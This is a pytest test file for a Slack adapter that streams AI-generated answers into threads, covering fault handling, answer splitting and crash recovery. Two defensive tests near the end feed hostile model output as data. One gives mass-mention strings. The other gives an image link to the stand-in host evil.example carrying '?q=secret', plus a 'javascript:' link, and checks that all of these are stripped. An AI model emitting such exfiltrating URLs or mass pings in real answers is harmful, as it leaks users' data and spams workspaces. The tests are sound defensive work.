"""How an answer gets into a thread, whatever Slack thinks of it."""

import pytest

from adapters.chat.slack.failure import NotDelivered
from routing.vocabulary import Source
from tests.adapters.chat.slack.conftest import Stage, reply
from tests.peers.slack import Fault, Post


def only_answer(stage: Stage) -> Post:
    asked = stage.reception.accepted[-1]
    answers = stage.slack.answers(asked.thread.channel, asked.thread.root)
    assert len(answers) == 1, [answer.body for answer in answers]
    return answers[0]


async def test_an_answer_streams_into_the_thread_and_ends_with_quiet_line_and_buttons(stage: Stage) -> None:
    draft, _ = await stage.draft()
    await draft.status("Thinking …")
    assert "Thinking …" in stage.slack.space.statuses.values()
    await stage.write(draft, "Hello", "Hello **Anna**", "Hello **Anna**, good")
    assert only_answer(stage).streaming_state == "in_progress"
    ref = await draft.finish(reply("Hello **Anna**, good morning."))
    post = only_answer(stage)
    assert ref == draft.ref == f"C0GENERAL:{post.ts}"
    assert post.streaming_state == "completed"
    assert post.body == "Hello **Anna**, good morning."
    assert post.small_print == "AI-generated · small-model · EU · internal"
    assert post.buttons == ("Good answer", "Bad answer", "Why?")
    assert not stage.slack.calls("chat.update")


async def test_an_answer_without_a_model_is_not_called_ai_generated(stage: Stage) -> None:
    draft, _ = await stage.draft()
    await draft.finish(reply("Here is what I can do.", generated=False, quiet="", exchange=""))
    post = only_answer(stage)
    assert (post.small_print, post.buttons) == ("", ())


async def test_what_an_answer_draws_on_stands_below_it_unless_the_text_links_to_it(stage: Stage) -> None:
    draft, _ = await stage.draft()
    linked, named, read = (
        Source(kind="message", title="Bo, 09:00", excerpt="Hi.", link="https://slack.example/1"),
        Source(
            kind="message", title="<@U1> | Anna, 09:05", excerpt="We take B.", link="https://slack.example/2"
        ),
        Source(kind="file", title="prices.csv", excerpt="Item;Price"),
    )
    await draft.finish(reply("They take B ([Bo](https://slack.example/1)).", sources=(linked, named, read)))
    sources, _ = only_answer(stage).small_print.split("\n")
    assert sources.startswith("Sources: <https://slack.example/2|")
    assert sources.endswith(" ¦ Anna, 09:05> · prices.csv")
    assert "<@U1>" not in sources


async def test_a_text_that_begins_anew_replaces_what_was_shown(stage: Stage) -> None:
    draft, _ = await stage.draft()
    await stage.write(draft, "The small model says", "Another model says yes")
    assert only_answer(stage).body == "Another model says yes"
    await draft.finish(reply("Another model says yes, and why."))
    assert only_answer(stage).body == "Another model says yes, and why."


@pytest.mark.parametrize(
    ("method", "fault"),
    [
        ("chat.startStream", Fault(error="unknown_method")),
        ("chat.startStream", Fault(error="missing_scope")),
        ("chat.startStream", Fault(status=429, error="ratelimited", retry_after=30)),
        ("chat.startStream", Fault(status=500, done_anyway=True)),
        ("chat.startStream", Fault(status=503)),
        ("chat.appendStream", Fault(error="message_not_in_streaming_state")),
        ("chat.appendStream", Fault(status=429, error="ratelimited", retry_after=30)),
        ("chat.appendStream", Fault(status=500, done_anyway=True)),
        ("chat.stopStream", Fault(error="message_not_in_streaming_state")),
        ("chat.stopStream", Fault(status=500, done_anyway=True)),
    ],
)
async def test_an_answer_arrives_once_and_whole_whatever_happens_to_its_stream(
    stage: Stage, method: str, fault: Fault
) -> None:
    draft, _ = await stage.draft()
    stage.slack.fail(method, fault)
    await stage.write(draft, "one", "one two", "one two three")
    await draft.finish(reply("one two three four"))
    post = only_answer(stage)
    assert post.body == "one two three four"
    assert post.buttons == ("Good answer", "Bad answer", "Why?")


@pytest.mark.parametrize("done_anyway", [True, False])
async def test_a_post_that_slack_answers_with_500_is_not_made_twice(stage: Stage, done_anyway: bool) -> None:
    draft, _ = await stage.draft()
    stage.slack.fail("chat.postMessage", Fault(status=500, done_anyway=done_anyway))
    await draft.finish(reply("only once"))
    assert only_answer(stage).body == "only once"


async def test_a_token_that_is_revoked_under_a_stream_is_reported_and_what_is_said_is_still_kept(
    stage: Stage,
) -> None:
    draft, _ = await stage.draft()
    await stage.write(draft, "half an ")
    await stage.slack.say("U0ANNA", "C0SALES", "hej")  # whose names are known is heard without asking Slack
    stage.slack.web.token_error = "token_revoked"
    await stage.write(draft, "half an answer")
    with pytest.raises(NotDelivered, match="token_revoked"):
        await draft.finish(reply("half an answer, and the rest"))
    assert await stage.slack.direct("U0ANNA", "er du der?")
    assert (await stage.reception.message(2)).text == "er du der?"


async def test_a_rate_limited_post_waits_as_long_as_slack_asks(stage: Stage) -> None:
    draft, _ = await stage.draft()
    stage.slack.fail("chat.postMessage", Fault(status=429, error="ratelimited", retry_after=0))
    await draft.finish(reply("patience"))
    assert only_answer(stage).body == "patience"
    assert len(stage.slack.calls("chat.postMessage")) == 2


async def test_a_stream_that_slack_ended_by_itself_is_rescued_by_an_edit(stage: Stage) -> None:
    stage.slack.space.stream_lifetime = 0.0
    draft, _ = await stage.draft()
    await stage.write(draft, "one", "one two", "one two three")
    await draft.finish(reply("one two three four"))
    post = only_answer(stage)
    assert (post.body, post.buttons[-1]) == ("one two three four", "Why?")


async def test_an_answer_that_cannot_be_edited_is_posted_anew_and_the_half_one_goes(stage: Stage) -> None:
    draft, _ = await stage.draft()
    stage.slack.fail("chat.stopStream", *[Fault(error="message_not_in_streaming_state")] * 3)
    stage.slack.fail("chat.update", *[Fault(error="edit_window_closed")] * 3)
    await stage.write(draft, "half")
    await draft.finish(reply("half and the rest"))
    assert only_answer(stage).body == "half and the rest"


async def test_blocks_that_slack_refuses_do_not_silence_the_answer(stage: Stage) -> None:
    draft, message = await stage.draft()
    stage.slack.fail("chat.postMessage", Fault(error="invalid_blocks"))
    await draft.finish(reply("plain"))
    first, second = stage.slack.answers("C0GENERAL", message.thread.root)
    assert first.body == "plain"
    assert second.buttons == ("Good answer", "Bad answer", "Why?")


async def test_a_workspace_that_streams_too_much_gets_whole_answers(stage: Stage) -> None:
    message = await stage.asked()
    drafts = [await stage.chat.open(message) for _ in range(25)]
    for draft in drafts:
        await draft.write("partial")
    for draft in drafts:
        await draft.finish(reply("partial and whole"))
    bodies = [post.body for post in stage.slack.answers("C0GENERAL", message.thread.root)]
    assert bodies == ["partial and whole"] * 25
    assert len(stage.slack.calls("chat.startStream")) == 12
    assert not [call for call in stage.slack.web.calls if call.error]


async def test_a_long_answer_comes_in_parts_with_the_buttons_under_the_last(stage: Stage) -> None:
    draft, message = await stage.draft()
    code = "```python\n" + "\n".join(f"print({n})" for n in range(1_500)) + "\n```"
    whole = "\n\n".join(f"Paragraph {n}. " + "word " * 60 for n in range(60)) + "\n\n" + code
    await stage.write(draft, whole[:500], whole[:9_000], whole)
    await draft.finish(reply(whole))
    posts = stage.slack.answers("C0GENERAL", message.thread.root)
    assert len(posts) > 2
    assert all(len(post.body) <= 11_500 for post in posts)
    assert [bool(post.buttons) for post in posts] == [False] * (len(posts) - 1) + [True]
    assert all(post.body.count("```") % 2 == 0 for post in posts)
    said = "\n".join(post.body.replace("```python", "").replace("```", "") for post in posts)
    wanted = whole.replace("```python", "").replace("```", "")
    assert said.split() == wanted.split()
    assert not [call for call in stage.slack.web.calls if call.error]


async def test_many_headings_do_not_exceed_what_slack_counts(stage: Stage) -> None:
    draft, message = await stage.draft()
    await draft.finish(reply("\n\n".join(f"# Heading {n}\n\ntext" for n in range(60))))
    posts = stage.slack.answers("C0GENERAL", message.thread.root)
    assert all(post.body.count("# Heading") <= 20 for post in posts)
    assert sum(post.body.count("# Heading") for post in posts) == 60


@pytest.mark.parametrize(
    "evil",
    [
        "<!channel> all read this",
        "<!here|here> and @everyone",
        "<@U0CAROL> look",
        "<!subteam^S123|@devs>",
        "@channel, now",
    ],
)
async def test_a_model_cannot_ring_anybodys_phone(stage: Stage, evil: str) -> None:
    draft, _ = await stage.draft()
    for end in range(1, len(evil) + 1):
        await stage.write(draft, evil[:end])
        assert not any(post.pings for post in stage.slack.space.posts[1:])
    await draft.finish(reply(evil, quiet=evil))
    assert not only_answer(stage).pings


async def test_a_model_cannot_make_slack_fetch_an_address(stage: Stage) -> None:
    draft, _ = await stage.draft()
    evil = "a ![chart](https://evil.example/?q=secret) b <img src='https://evil.example/y'> [c](javascript:x)"
    for end in range(1, len(evil) + 1):
        await stage.write(draft, evil[:end])
        assert "evil.example" not in "".join(post.body for post in stage.slack.space.posts[1:])
    await draft.finish(reply(evil))
    assert "evil.example" not in only_answer(stage).body
    assert "javascript" not in only_answer(stage).body
    posted = stage.slack.calls("chat.postMessage")
    assert all(call.args["unfurl_links"] is False and call.args["unfurl_media"] is False for call in posted)


async def test_an_answer_that_a_crash_left_half_written_is_taken_over(stage: Stage) -> None:
    draft, message = await stage.draft()
    await stage.write(draft, "half an ans")
    second = await stage.chat.open(message, resume=draft.ref)
    assert second.ref == draft.ref
    await second.finish(reply("half an answer and the rest"))
    post = only_answer(stage)
    assert post.body == "half an answer and the rest"
    assert post.buttons == ("Good answer", "Bad answer", "Why?")


async def test_a_long_answer_that_a_crash_interrupted_is_not_sent_twice(stage: Stage) -> None:
    draft, message = await stage.draft()
    whole = "\n\n".join("word " * 200 for _ in range(20))
    ref = await draft.finish(reply(whole))
    before = len(stage.slack.answers("C0GENERAL", message.thread.root))
    second = await stage.chat.open(message, resume=ref)
    assert await second.finish(reply(whole)) == ref
    assert len(stage.slack.answers("C0GENERAL", message.thread.root)) == before == 2


async def test_in_a_direct_message_slack_offers_its_stop_button_while_an_answer_is_written(
    stage: Stage,
) -> None:
    await stage.slack.direct("U0ANNA", "hej")
    message = await stage.reception.message()
    draft = await stage.chat.open(message)
    await draft.status("Jeg tænker …")
    assert list(stage.slack.space.sessions.values()) == ["processing"]
    await stage.write(draft, "hej")
    await draft.finish(reply("hej igen"))
    assert list(stage.slack.space.sessions.values()) == ["active"]
